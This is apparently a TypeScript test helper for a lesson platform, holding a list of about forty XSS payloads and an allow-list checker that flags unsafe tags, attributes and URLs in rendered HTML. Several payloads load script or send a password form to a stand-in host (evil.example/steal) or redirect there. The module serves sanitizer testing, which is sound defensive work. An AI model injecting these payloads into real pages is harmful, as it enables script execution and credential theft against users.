/**
 * XSS payloads a lesson body must not smuggle into a learner's page, and a checker for the
 * rendered HTML. Used by the unit spec and the integration test of the lesson routes.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://ok.example/a.png" onload="alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '<a href="jav&#x61;script:alert(1)">entity</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">decimal entities</a>',
  '<a href="  javascript:alert(1)">leading space</a>',
  '<a href="java\tscript:alert(1)">tab</a>',
  '[x](vbscript:msgbox(1))',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<div style="width: expression(alert(1))">ie</div>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example/steal"><input name="p" type="password"><button formaction="javascript:alert(1)">Go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(1)">handlers</a>',
  '<img src="x" alt="x"onerror="alert(1)">',
  '<a href="//evil.example/x">protocol-relative</a>',
  '<IMG SRC=`javascript:alert(1)`>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<p>text</p><!-- <script>alert(1)</script> -->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
];

const ALLOWED: Record<string, readonly string[]> = {
  h1: [], h2: [], h3: [], h4: [], h5: [], h6: [], p: [], br: [], hr: [], blockquote: [], ul: [], ol: ['start'], li: [],
  strong: [], em: [], b: [], i: [], del: [], s: [], sup: [], sub: [], code: ['class'], pre: [], a: ['href', 'title', 'rel'],
  img: ['src', 'alt', 'title', 'loading'], table: [], thead: [], tbody: [], tr: [], th: ['align'], td: ['align'], dl: [], dt: [], dd: [],
  abbr: ['title'], kbd: [],
};

function decodeEntities(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_m, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_m, dec: string) => String.fromCodePoint(parseInt(dec, 10)))
    .replace(/&colon;/gi, ':').replace(/&tab;/gi, '\t').replace(/&newline;/gi, '\n')
    .replace(/&quot;/g, '"').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
}

/**
 * Lists what is unsafe in rendered HTML: tags outside the allow-list, attributes outside it
 * (event handlers, style, …), links to anything but http(s)/mailto, images from anything but
 * https, and any '<' that does not open an allowed tag. Empty when the HTML is safe.
 */
/** Kindling's own lesson media (issue 22): a relative URL of exactly this shape, nothing else relative. */
const OWN_MEDIA = /^\/api\/media\/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;

export function unsafeParts(html: string): string[] {
  const problems: string[] = [];
  const tag = /<(\/?)([a-zA-Z][a-zA-Z0-9-]*)((?:\s+[^\s=/>]+(?:="[^"]*")?)*)\s*(\/?)>/g;
  let rest = html;
  for (const match of html.matchAll(tag)) {
    const [whole, , rawName, attributes] = match;
    rest = rest.replace(whole, '');
    const name = rawName!.toLowerCase();
    const allowedAttributes = ALLOWED[name];
    if (!allowedAttributes) {
      problems.push(`tag <${name}>`);
      continue;
    }
    for (const attr of (attributes ?? '').matchAll(/([^\s=/>]+)(?:="([^"]*)")?/g)) {
      const attrName = attr[1]!.toLowerCase();
      const value = decodeEntities(attr[2] ?? '').replace(/[\s\p{Cc}]+/gu, '');
      if (!allowedAttributes.includes(attrName)) problems.push(`attribute ${attrName} on <${name}>`);
      if (attrName === 'href' && !/^(https?:\/\/|mailto:|#)/i.test(value) && !OWN_MEDIA.test(value)) problems.push(`href ${value}`);
      if (attrName === 'src' && !/^https:\/\//i.test(value) && !OWN_MEDIA.test(value)) problems.push(`src ${value}`);
      if (attrName === 'loading' && value !== 'lazy') problems.push(`loading ${value}`);
      if (attrName === 'class' && !/^language-[a-z0-9+#-]+$/i.test(value)) problems.push(`class ${value}`);
    }
  }
  if (rest.includes('<')) problems.push(`unparsed markup: ${rest.slice(rest.indexOf('<'), rest.indexOf('<') + 40)}`);
  return problems;
}
